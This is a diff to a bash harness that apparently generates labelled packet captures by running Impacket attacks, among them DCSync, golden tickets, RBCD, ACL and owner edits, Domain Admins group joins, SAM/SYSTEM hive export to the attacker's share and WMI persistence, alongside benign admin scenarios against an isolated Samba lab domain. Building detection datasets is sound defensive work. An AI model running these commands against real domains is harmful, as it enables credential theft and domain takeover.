@@ -301,6 +301,47 @@ ISL_SCENARIOS=(
   "atk_relay_smb_to_mssql|attack|010 014|ntlm_relay|ntlmrelayx SMB listener; victim da_carol@ws01 smbclient; relayed to mssql://ws01:1433 (lab TDS responder), -q queries"
   "atk_coerce|attack|010 014|coercion|MS-EFSR EfsRpcOpenFileRaw/EfsRpcEncryptFileSrv over \\pipe\\lsarpc, EfsRpcOpenFileRaw over \\pipe\\efsrpc, MS-RPRN RpcRemoteFindFirstPrinterChangeNotificationEx, MS-DFSNM NetrDfsRemoveStdRoot with UNC paths naming the attacker (alice); then DC1\$ authenticates over SMB to the attacker's smbserver.py"
   "atk_mssqlclient|attack|010 014|mssql_abuse|mssqlclient.py -windows-auth da_carol to the lab TDS responder on ws01: NTLM in LOGIN7 SSPI, batches select @@version, enable_xp_cmdshell, xp_cmdshell whoami, xp_dirtree \\\\10.99.0.2\\share"
+  "atk_dacledit|attack|014|acl_abuse|dacledit.py -action write -rights DCSync -principal alice on DC=lab,DC=test, then -action read (Administrator, LDAP NTLM)"
+  "atk_owneredit|attack|014|acl_abuse|owneredit.py -action write -new-owner alice -target bob, then -action read (Administrator, LDAP NTLM)"
+  "atk_rbcd|attack|010 014|rbcd_abuse|rbcd.py -delegate-from EVILPC\$ -delegate-to DC1\$ -action write then read (Administrator)"
+  "atk_changepasswd|attack|014|password_change|changepasswd.py bob: -protocol smb-samr, rpc-samr, kpasswd, ldap; -reset by Administrator (SAMR)"
+  "atk_smbpasswd|attack|010|password_change|smbpasswd.py (0.10's changepasswd): bob's password changed over SAMR SamrUnicodeChangePasswordUser2"
+  "atk_net|attack|014|account_manipulation|net.py user -create evilusr; group -name 'Domain Admins' -join evilusr; localgroup -name Administrators; user -remove evilusr (Administrator, SAMR/LSAT)"
+  "atk_getST_variants|attack|014|s4u_delegation_abuse|getST.py as svc_web: -self -impersonate Administrator; -altservice cifs/dc1 with S4U2proxy; -u2u as alice (compat shim); 0.10's getST has none of these options"
+  "atk_getPac|attack|010 014|s4u_delegation_abuse|getPac.py -targetUser Administrator as alice: S4U2self + U2U to read a PAC (compat shim)"
+  "atk_services_verbs|attack|010 014|service_manipulation|services.py list, status, config, start, stop, change -name Netlogon (Administrator): svcctl"
+  "atk_reg_save|attack|010 014|remote_registry|reg.py query HKLM\\SYSTEM\\CurrentControlSet\\Control\\Lsa, save HKLM\\SAM and HKLM\\SYSTEM to \\\\10.99.0.2\\share, backup (Administrator)"
+  "atk_regsecrets|attack|014|secretsdump|regsecrets.py (Administrator): remote registry reads of SAM/LSA secrets without saving hives"
+  "atk_wmiquery|attack|010 014|impacket_fingerprint|wmiquery.py -namespace //./root/cimv2 (Administrator): DCOM activation of WMI (Samba has no DCOM: stops at activation)"
+  "atk_wmipersist|attack|010 014|impacket_fingerprint|wmipersist.py install -name evil -vbs (Administrator): DCOM activation of WMI (Samba has no DCOM)"
+  "atk_rpcmap|attack|010 014|optional|rpcmap.py ncacn_ip_tcp:10.99.0.1[135] and ncacn_np:10.99.0.1[\\pipe\\lsarpc] -brute-uuids (alice)"
+  "atk_getArch|attack|010 014|optional|getArch.py -target 10.99.0.1: the NDR64 bind probe on 135"
+  "atk_machine_role|attack|010 014|optional|machine_role.py (alice): DsRoleGetPrimaryDomainInformation over \\pipe\\lsarpc"
+  "atk_netview|attack|010 014|optional|netview.py -target 10.99.0.1 (alice): NetrServerGetInfo/NetrShareEnum/NetrSessionEnum/NetrWkstaUserEnum sweep"
+  "atk_DumpNTLMInfo|attack|014|optional|DumpNTLMInfo.py 10.99.0.1: SMB NEGOTIATE + NTLM NEGOTIATE only, no authentication"
+  "atk_lookupsid|attack|014|sid_enumeration|lookupsid.py 1500 (alice): LsarLookupSids RID brute force"
+  "atk_samrdump|attack|014|samr_enumeration|samrdump.py (alice): SAMR user enumeration"
+  "atk_GetLAPSPassword|attack|014|optional|GetLAPSPassword.py (Administrator, LDAP NTLM): ms-Mcs-AdmPwd / msLAPS-* reads"
+  "atk_findDelegation|attack|014|ldap_recon|findDelegation.py (alice, LDAP NTLM)"
+  "atk_GetADUsers|attack|014|ldap_recon|GetADUsers.py -all (alice, LDAP NTLM)"
+  "atk_GetADComputers|attack|014|ldap_recon|GetADComputers.py (alice, LDAP NTLM)"
+  "atk_CheckLDAPStatus|attack|014|optional|CheckLDAPStatus.py -domain lab.test (no credentials): LDAP signing / LDAPS channel-binding probes"
+  "atk_gpp_password|attack|014|gpp_password|Get-GPPPassword.py (alice): SYSVOL walk reading Groups.xml with a cpassword"
+  "atk_dpapi_backupkeys|attack|010 014|dpapi_backupkey|dpapi.py backupkeys --export (Administrator): LSARPC LsarRetrievePrivateData G\$BCKUPKEY_* / MS-BKRP"
+  "atk_smbclient_ops|attack|010 014|impacket_fingerprint|smbclient.py (Administrator password): shares, use C\$, put, get, rm, use SYSVOL, ls"
+  "atk_attrib|attack|014|optional|attrib.py query/set on C\$ (Administrator): SMB2 QUERY_INFO/SET_INFO basic information"
+  "atk_tstool|attack|014|optional|tstool.py qwinsta and tasklist (Administrator): TermSrv RPC (Samba has no TermSrv pipes)"
+  "atk_badsuccessor|attack|014|optional|badsuccessor.py -action add -target-account Administrator (alice, LDAP NTLM): dMSA creation (Samba 4.17 has no dMSA schema)"
+  "atk_keylistattack|attack|010 014|optional|keylistattack.py -rodcNo 20000 -rodcKey <the krbtgt AES key standing in for an RODC key>: SAMR user listing, then LIST mode for Administrator, alice, bob: forged RODC TGTs in TGS-REQs with KERB-KEY-LIST-REQ (no RODC in the lab)"
+  "atk_raiseChild|attack|010 014|optional|raiseChild.py (Administrator): child-to-parent escalation attempt (the lab has no parent domain)"
+  "atk_goldenPac|attack|010 014|optional|goldenPac.py (alice): MS14-068 TGS-REQ with a forged PAC (Samba is not vulnerable)"
+  "atk_ticketer_variants|attack|010 014|golden_ticket|ticketer.py golden with -extra-sid S-1-5-21-...-519 then smbclient -k; 0.14 also -request -impersonate (sapphire-style) (compat shim)"
+  "atk_secretsdump_modes|attack|010 014|dcsync|secretsdump.py -just-dc-ntlm, -just-dc-user krbtgt, -use-vss; 0.14 also -ldapfilter (Administrator)"
+  "atk_dc2_join_dcsync|attack|010 014|dcsync|a second DC (dc2, 10.99.0.4, own namespace on br0) joins with samba-tool domain join lab.test DC and replicates for the first time (DRSUAPI from dc2: benign); in the same capture secretsdump.py -just-dc from the attacker (DCSync)"
+  "ben_admin_setpassword|benign|-|none|an admin resets bob's password from ws01: samba-tool user setpassword over LDAP, net rpc password over SAMR"
+  "ben_admin_sessions|benign|-|none|an admin on ws01 lists sessions, shares and server info with rpcclient (srvinfo, netsessenum, netshareenumall) and net rpc share / net rpc info"
+  "ben_admin_rpcclient_users|benign|-|none|an admin on ws01 lists domain users and groups with Samba's rpcclient (SAMR enumdomusers, enumdomgroups, queryuser)"
+  "ben_admin_dsacl|benign|-|none|an admin on ws01 reads the domain object's ACL with samba-tool dsacl get and queries users with samba-tool over LDAP"
   "ben_http_ntlm|benign|-|none|da_carol and alice on ws01 open http://dc1/certsrv/ with python3-requests-ntlm (plain HTTP NTLM logins to an intranet site, Apache mod_auth_gssapi + gss-ntlmssp)"
 )
 
@@ -388,6 +429,222 @@ sc_ben_http_ntlm() {
     "http://$DCFQDN/certsrv/" "$DOMAIN\\alice" "$ALICE_PW"
 }
 
+# --- #2 every network example of current Impacket, and the administrative twins
+ADMW="$D/Administrator:$ADMIN_PW"
+smbc_file_opt() { if [ "$IVER" = 010 ]; then echo -file; else echo -inputfile; fi; }   # renamed after 0.10
+sc_atk_dacledit() {
+  X dacledit-write ak $(imp dacledit) -action write -rights DCSync -principal alice -target-dn "$BASEDN" -dc-ip "$DC_IP" "$ADMW" || true
+  X dacledit-read ak $(imp dacledit) -action read -principal alice -target-dn "$BASEDN" -dc-ip "$DC_IP" "$ADMW" || true
+  X dacledit-remove ak $(imp dacledit) -action remove -rights DCSync -principal alice -target-dn "$BASEDN" -dc-ip "$DC_IP" "$ADMW" || true
+}
+sc_atk_owneredit() {
+  X owneredit-read ak $(imp owneredit) -action read -target bob -dc-ip "$DC_IP" "$ADMW" || true
+  X owneredit-write ak $(imp owneredit) -action write -new-owner alice -target bob -dc-ip "$DC_IP" "$ADMW" || true
+}
+pre_atk_rbcd() { stool computer delete EVILPC >/dev/null 2>&1 || true; stool computer add EVILPC >/dev/null 2>&1 || stool computer create EVILPC >/dev/null 2>&1 || true; }
+sc_atk_rbcd() {
+  if [ "$IVER" = 010 ]; then export COMPAT=1; X rbcd-write ak $(imp rbcd) -k -delegate-from 'EVILPC$' -delegate-to 'DC1$' -action write -dc-ip "$DC_IP" "$KD/Administrator:$ADMIN_PW" || true
+    X rbcd-ntlm ak $(imp rbcd) -delegate-from 'EVILPC$' -delegate-to 'DC1$' -action write -dc-ip "$DC_IP" "$ADMW" || true
+  else
+    X rbcd-write ak $(imp rbcd) -delegate-from 'EVILPC$' -delegate-to 'DC1$' -action write -dc-ip "$DC_IP" "$ADMW" || true
+    X rbcd-read ak $(imp rbcd) -delegate-to 'DC1$' -action read -dc-ip "$DC_IP" "$ADMW" || true
+    X rbcd-flush ak $(imp rbcd) -delegate-to 'DC1$' -action flush -dc-ip "$DC_IP" "$ADMW" || true
+  fi
+}
+BOB_NEW1='Bob.New1.Passw0rd!' BOB_NEW2='Bob.New2.Passw0rd!' BOB_NEW3='Bob.New3.Passw0rd!' BOB_NEW4='Bob.New4.Passw0rd!'
+pre_atk_changepasswd() { stool user setpassword bob --newpassword="$BOB_PW" >/dev/null; stool domain passwordsettings set --min-pwd-age=0 --history-length=0 >/dev/null 2>&1 || true; }
+sc_atk_changepasswd() {
+  # each change starts from bob's lab password, set locally on the DC (sam.ldb, nothing on the wire)
+  bob_reset() { stool user setpassword bob --newpassword="$BOB_PW" >/dev/null; }
+  bob_reset; X samr-smb ak $(imp changepasswd) -newpass "$BOB_NEW1" -protocol smb-samr "$D/bob:$BOB_PW@$DC_IP" || true
+  bob_reset; X samr-rpc ak $(imp changepasswd) -newpass "$BOB_NEW2" -protocol rpc-samr "$D/bob:$BOB_PW@$DC_IP" || true
+  bob_reset; X kpasswd ak $(imp changepasswd) -newpass "$BOB_NEW3" -protocol kpasswd -dc-ip "$DC_IP" "$KD/bob:$BOB_PW@$DCFQDN" || true
+  bob_reset; X ldap ak $(imp changepasswd) -newpass "$BOB_NEW4" -protocol ldap -dc-ip "$DC_IP" "$D/bob:$BOB_PW@$DC_IP" || true
+  X reset-samr ak $(imp changepasswd) -reset -altuser "$D/Administrator" -altpass "$ADMIN_PW" -newpass "$BOB_NEW1" -protocol smb-samr "$D/bob@$DC_IP" || true
+  X reset-ldap ak $(imp changepasswd) -reset -altuser "$D/Administrator" -altpass "$ADMIN_PW" -newpass "$BOB_NEW2" -protocol ldap -dc-ip "$DC_IP" "$D/bob@$DC_IP" || true
+  bob_reset
+}
+pre_atk_smbpasswd() { pre_atk_changepasswd; }
+sc_atk_smbpasswd() { X smbpasswd ak $(imp smbpasswd) -newpass "$BOB_NEW1" "$D/bob:$BOB_PW@$DC_IP" || true; }
+pre_atk_net() { stool user delete evilusr >/dev/null 2>&1 || true; }
+sc_atk_net() {
+  local T="$ADMW@$DC_IP"
+  X net-user-list ak $(imp net) "$T" user || true
+  X net-user-create ak $(imp net) "$T" user -create evilusr -newPasswd 'Evil.Usr.Passw0rd!' || true
+  X net-group-join ak $(imp net) "$T" group -name 'Domain Admins' -join evilusr || true
+  X net-localgroup ak $(imp net) "$T" localgroup -name Administrators || true
+  X net-computer ak $(imp net) "$T" computer || true
+  X net-group-unjoin ak $(imp net) "$T" group -name 'Domain Admins' -unjoin evilusr || true
+  X net-user-remove ak $(imp net) "$T" user -remove evilusr || true
+}
+sc_atk_getST_variants() {
+  export COMPAT=1
+  X getST-self ak $(imp getST) -self -impersonate Administrator -dc-ip "$DC_IP" "$KD/svc_web:$WEB_PW" || true
+  X getST-altservice ak $(imp getST) -spn "cifs/$DCFQDN" -altservice "host/$DCFQDN" -impersonate Administrator -dc-ip "$DC_IP" "$KD/svc_web:$WEB_PW" || true
+  X getST-u2u ak $(imp getST) -u2u -impersonate Administrator -dc-ip "$DC_IP" "$KD/alice:$ALICE_PW" || true
+}
+sc_atk_getPac() { export COMPAT=1; X getPac ak $(imp getPac) -targetUser Administrator "$KD/alice:$ALICE_PW" || true; }
+sc_atk_services_verbs() {
+  local T="$ADMW@$DC_IP" v
+  for v in list "status -name Netlogon" "config -name Netlogon" "start -name Netlogon" "stop -name Netlogon" \
+           "change -name Netlogon -start_type 2"; do
+    # shellcheck disable=SC2086
+    X "services-${v%% *}" ak $(imp services) "$T" $v || true
+  done
+}
+sc_atk_reg_save() {
+  local T="$ADMW@$DC_IP"
+  X reg-query ak $(imp reg) "$T" query -keyName 'HKLM\SYSTEM\CurrentControlSet\Control\Lsa' || true
+  X reg-save ak $(imp reg) "$T" save -keyName 'HKLM\SAM' -o "\\\\$ATK_IP\\share" || true
+  X reg-backup ak $(imp reg) "$T" backup -o "\\\\$ATK_IP\\share" || true
+}
+sc_atk_regsecrets() { X regsecrets ak $(imp regsecrets) "$ADMW@$DC_IP" || true; }
+sc_atk_wmiquery() {
+  printf 'SELECT Name FROM Win32_Process\nexit\n' > wql.txt
+  X wmiquery ak $(imp wmiquery) -namespace //./root/cimv2 -file wql.txt "$ADMW@$DC_IP" || true
+}
+sc_atk_wmipersist() {
+  printf 'Set o = CreateObject("WScript.Shell")\n' > evil.vbs
+  X wmipersist ak $(imp wmipersist) "$ADMW@$DC_IP" install -name evil -vbs evil.vbs -timer 60000 || true
+}
+sc_atk_rpcmap() {
+  X rpcmap-epm ak $(imp rpcmap) "ncacn_ip_tcp:$DC_IP[135]" || true
+  X rpcmap-brute ak $(imp rpcmap) -brute-uuids -auth-rpc "$D/alice:$ALICE_PW" "ncacn_np:$DC_IP[\\pipe\\lsarpc]" -auth-transport "$D/alice:$ALICE_PW" || true
+}
+sc_atk_getArch() { X getArch ak $(imp getArch) -target "$DC_IP" || true; }
+sc_atk_machine_role() { X machine_role ak $(imp machine_role) "$D/alice:$ALICE_PW@$DC_IP" || true; }
+sc_atk_netview() {
+  printf '%s\n' "$DC_IP" > hosts.txt
+  X netview ip netns exec $NS_ATK timeout -k 2 20 $(imp netview) -target "$DC_IP" "$D/alice:$ALICE_PW" < /dev/null || true
+}
+sc_atk_DumpNTLMInfo() { X DumpNTLMInfo ak $(imp DumpNTLMInfo) "$DC_IP" || true; }
+sc_atk_lookupsid() { X lookupsid ak $(imp lookupsid) "$D/alice:$ALICE_PW@$DC_IP" 1500 || true; }
+sc_atk_samrdump() { X samrdump ak $(imp samrdump) "$D/alice:$ALICE_PW@$DC_IP" || true; }
+sc_atk_GetLAPSPassword() { X GetLAPSPassword ak $(imp GetLAPSPassword) -dc-ip "$DC_IP" "$ADMW" || true; }
+sc_atk_findDelegation() { X findDelegation ak $(imp findDelegation) -dc-ip "$DC_IP" "$D/alice:$ALICE_PW" || true; }
+sc_atk_GetADUsers() { X GetADUsers ak $(imp GetADUsers) -all -dc-ip "$DC_IP" "$D/alice:$ALICE_PW" || true; }
+sc_atk_GetADComputers() { X GetADComputers ak $(imp GetADComputers) -dc-ip "$DC_IP" "$D/alice:$ALICE_PW" || true; }
+sc_atk_CheckLDAPStatus() { X CheckLDAPStatus ak $(imp CheckLDAPStatus) -dc-ip "$DC_IP" -domain "$DNSDOM" || true; }
+sc_atk_gpp_password() { X Get-GPPPassword ak $(imp Get-GPPPassword) "$D/alice:$ALICE_PW@$DC_IP" || true; }
+sc_atk_dpapi_backupkeys() { X dpapi-backupkeys ak $(imp dpapi) backupkeys -t "$ADMW@$DC_IP" --export || true; }
+sc_atk_smbclient_ops() {
+  printf 'local file\n' > loot-upload.txt
+  printf 'shares\nuse C$\nls\ncd Windows\\Temp\nput loot-upload.txt\nget loot-upload.txt\nrm loot-upload.txt\nuse SYSVOL\nls\nexit\n' > cmds.txt
+  X smbclient ak $(imp smbclient) "$(smbc_file_opt)" cmds.txt "$ADMW@$DC_IP" || true
+}
+sc_atk_attrib() {
+  X attrib-query ak $(imp attrib) "$ADMW@$DC_IP" 'C$' 'Windows\Temp' query || true
+  X attrib-set ak $(imp attrib) "$ADMW@$DC_IP" 'C$' 'Windows\Temp' set -H -s || true
+  X attrib-reset ak $(imp attrib) "$ADMW@$DC_IP" 'C$' 'Windows\Temp' set -n || true
+}
+sc_atk_tstool() {
+  X tstool-qwinsta ak $(imp tstool) "$ADMW@$DC_IP" qwinsta || true
+  X tstool-tasklist ak $(imp tstool) "$ADMW@$DC_IP" tasklist || true
+}
+sc_atk_badsuccessor() {
+  X badsuccessor-search ak $(imp badsuccessor) -action search -dc-ip "$DC_IP" "$D/alice:$ALICE_PW" || true
+  X badsuccessor-add ak $(imp badsuccessor) -action add -dmsa-name evildmsa -target-account Administrator -dc-ip "$DC_IP" "$D/alice:$ALICE_PW" || true
+}
+sc_atk_keylistattack() {
+  load_secrets
+  X keylistattack-samr ak $(imp keylistattack) -rodcNo 20000 -rodcKey "$KRBTGT_AES" -dc-ip "$DC_IP" "$DOMAIN/Administrator:$ADMIN_PW@$DCFQDN" || true
+  printf '%s\n' Administrator alice bob > targets.txt
+  X keylistattack-list ak $(imp keylistattack) -rodcNo 20000 -rodcKey "$KRBTGT_AES" -domain "$DNSDOM" -kdc "$DCFQDN" \
+    -tf targets.txt -dc-ip "$DC_IP" LIST || true
+}
+sc_atk_raiseChild() { X raiseChild ak $(imp raiseChild) "$D/Administrator:$ADMIN_PW" || true; }
+sc_atk_goldenPac() { X goldenPac ak $(imp goldenPac) -dc-ip "$DC_IP" -target-ip "$DC_IP" "$D/alice:$ALICE_PW@$DCFQDN" whoami || true; }
+sc_atk_ticketer_variants() {
+  load_secrets; export COMPAT=1
+  X ticketer-extrasid $(imp ticketer) -aesKey "$KRBTGT_AES" -domain-sid "$DOMAIN_SID" -domain "$KD" -user-id 500 \
+    -extra-sid "$DOMAIN_SID-519" Administrator || true
+  smb_k_cmds
+  X smbclient-k ak env KRB5CCNAME="$PWD/Administrator.ccache" $(imp smbclient) -k -no-pass -dc-ip "$DC_IP" \
+    -target-ip "$DC_IP" "$(smbc_file_opt)" cmds.txt "$KD/Administrator@$DCFQDN" || true
+  if [ "$IVER" = 014 ]; then
+    rm -f Administrator.ccache
+    X ticketer-request-impersonate ak $(imp ticketer) -request -impersonate Administrator -user alice -password "$ALICE_PW" \
+      -nthash "$KRBTGT_NT" -aesKey "$KRBTGT_AES" -domain-sid "$DOMAIN_SID" -domain "$KD" -dc-ip "$DC_IP" Administrator || true
+  fi
+}
+sc_atk_secretsdump_modes() {
+  local T="$ADMW@$DC_IP"
+  X just-dc-ntlm ak $(imp secretsdump) -just-dc-ntlm "$T" || true
+  X just-dc-user ak $(imp secretsdump) -just-dc-user krbtgt "$T" || true
+  X use-vss ak $(imp secretsdump) -use-vss "$T" || true
+  if [ "$IVER" = 014 ]; then
+    X ldapfilter ak $(imp secretsdump) -just-dc -ldapfilter '(sAMAccountName=alice)' -dc-ip "$DC_IP" "$T" || true
+  fi
+}
+# --- #3 a new DC replicating for the first time, and DCSync from the attacker in the same capture
+DC2_STATE=$STATE/dc2
+dc2_exists() { ns_exists $NS_DC2; }
+dc2_down() {
+  dc2_exists || return 0
+  local pid
+  for pid in $(ip netns pids $NS_DC2 2>/dev/null); do kill -TERM "$pid" 2>/dev/null || true; done
+  sleep 1
+  for pid in $(ip netns pids $NS_DC2 2>/dev/null); do kill -KILL "$pid" 2>/dev/null || true; done
+  ip -n $NS_SW link del p-dc2 2>/dev/null || true
+  ip netns del $NS_DC2
+  rm -rf /etc/netns/$NS_DC2
+}
+dc2_up() {
+  dc2_down
+  ip netns add $NS_DC2
+  ip netns exec $NS_DC2 sysctl -qw net.ipv6.conf.all.disable_ipv6=1 net.ipv6.conf.default.disable_ipv6=1
+  ip -n $NS_DC2 link set lo up
+  ip -n $NS_SW link add p-dc2 type veth peer name eth0 netns $NS_DC2
+  ip -n $NS_DC2 link set eth0 address 02:00:0a:63:00:04
+  ip -n $NS_DC2 addr add "$DC2_IP/24" dev eth0
+  ip netns exec $NS_DC2 ethtool -K eth0 tx off sg off tso off gso off gro off >/dev/null 2>&1 || true
+  ip netns exec $NS_SW ethtool -K p-dc2 tx off sg off tso off gso off gro off >/dev/null 2>&1 || true
+  ip -n $NS_SW link set p-dc2 master br0 up
+  ip -n $NS_DC2 link set eth0 up
+  ns_etc $NS_DC2
+  printf '%s %s %s\n' "$DC2_IP" "$DC2FQDN" "$DC2HOST" >> /etc/netns/$NS_DC2/hosts
+  if ip -n $NS_DC2 route show default | grep -q .; then die "unexpected default route in $NS_DC2"; fi
+}
+dc2() { ip netns exec $NS_DC2 timeout -k 5 300 "$@" < /dev/null; }
+pre_atk_dc2_join_dcsync() {
+  # a DC object left by an earlier run would make the join a re-join: remove it first
+  indc samba-tool domain demote --remove-other-dead-server=$DC2HOST -s "$SMBCONF" >/dev/null 2>&1 || true
+  rm -rf "$DC2_STATE"; mkdir -p "$DC2_STATE"
+  dc2_up
+}
+sc_atk_dc2_join_dcsync() {
+  # the namespace shares the host's UTS name: the DC's name must be given (netbios name)
+  X dc2-join dc2 samba-tool domain join "$DNSDOM" DC --targetdir="$DC2_STATE" --server="$DCFQDN" \
+    -U "$DOMAIN\\Administrator%$ADMIN_PW" --dns-backend=SAMBA_INTERNAL --option="interfaces = lo eth0" \
+    --option="netbios name = ${DC2HOST^^}" --option="bind interfaces only = yes" --option="disable netbios = yes" || true
+  sleep 2
+  X secretsdump-just-dc ak $(imp secretsdump) -just-dc "$ADMW@$DC_IP" || true
+}
+post_atk_dc2_join_dcsync() {
+  dc2_down
+  indc samba-tool domain demote --remove-other-dead-server=$DC2HOST -s "$SMBCONF" >/dev/null 2>&1 || true
+}
+
+pre_ben_admin_setpassword() { stool user setpassword bob --newpassword="$BOB_PW" >/dev/null; }
+sc_ben_admin_setpassword() {
+  X samba-tool-setpassword vic samba-tool user setpassword bob --newpassword="$BOB_NEW1" -s "$CLIENTCONF" \
+    -H "ldap://$DCFQDN" -U "$DOMAIN\\Administrator%$ADMIN_PW" || true
+  X net-rpc-password vic net rpc password bob "$BOB_PW" -s "$CLIENTCONF" -S "$DCFQDN" -U "$DOMAIN\\Administrator%$ADMIN_PW" || true
+}
+sc_ben_admin_sessions() {
+  X rpcclient vic rpcclient -s "$CLIENTCONF" -U "$DOMAIN\\Administrator%$ADMIN_PW" -c 'srvinfo; netsessenum; netshareenumall' "$DCFQDN" || true
+  X net-rpc-share vic net rpc share -s "$CLIENTCONF" -S "$DCFQDN" -U "$DOMAIN\\Administrator%$ADMIN_PW" || true
+  X net-rpc-info vic net rpc info -s "$CLIENTCONF" -S "$DCFQDN" -U "$DOMAIN\\Administrator%$ADMIN_PW" || true
+}
+sc_ben_admin_rpcclient_users() {
+  X rpcclient-users vic rpcclient -s "$CLIENTCONF" -U "$DOMAIN\\Administrator%$ADMIN_PW" -c 'enumdomusers; enumdomgroups; queryuser bob' "$DCFQDN" || true
+}
+sc_ben_admin_dsacl() {
+  X dsacl-get vic samba-tool dsacl get --objectdn="$BASEDN" -s "$CLIENTCONF" -H "ldap://$DCFQDN" -U "$DOMAIN\\Administrator%$ADMIN_PW" || true
+  X user-show vic samba-tool user show bob -s "$CLIENTCONF" -H "ldap://$DCFQDN" -U "$DOMAIN\\Administrator%$ADMIN_PW" || true
+  X computer-list vic samba-tool computer list -s "$CLIENTCONF" -H "ldap://$DCFQDN" -U "$DOMAIN\\Administrator%$ADMIN_PW" || true
+}
+
 # ---------------------------------------------------------------- runner + manifest
 MANIFEST_HEADER=$'file\tkind\texpected_attack_types\twhat_it_shows\timpacket\tcommand\tbytes'
 
@@ -429,6 +686,7 @@ isl_run_one() {  # isl_run_one SCENARIO VER(010|014|-)
   local rc=0
   ( cd "$wd" && set +e && trap - ERR && echo "# $(ver_label "$v")" && "sc_$s" ) > "$logf" 2>&1 || rc=$?
   cap_stop
+  if declare -F "post_$s" >/dev/null; then (cd "$wd" && "post_$s") >> "$logf" 2>&1 || true; fi
   [ "${ISL_ANALYZE:-0}" = 1 ] && analyze "$id"
   local by; by=$(stat -c %s "$pcap" 2>/dev/null || echo 0)
   local label; label=$(ver_label "$v")
@@ -468,6 +726,7 @@ isl_setup() {
 isl_teardown() {
   need_root
   apache_stop || true
+  dc2_down
   bash "$LAB_SH" teardown "$@"
 }
 
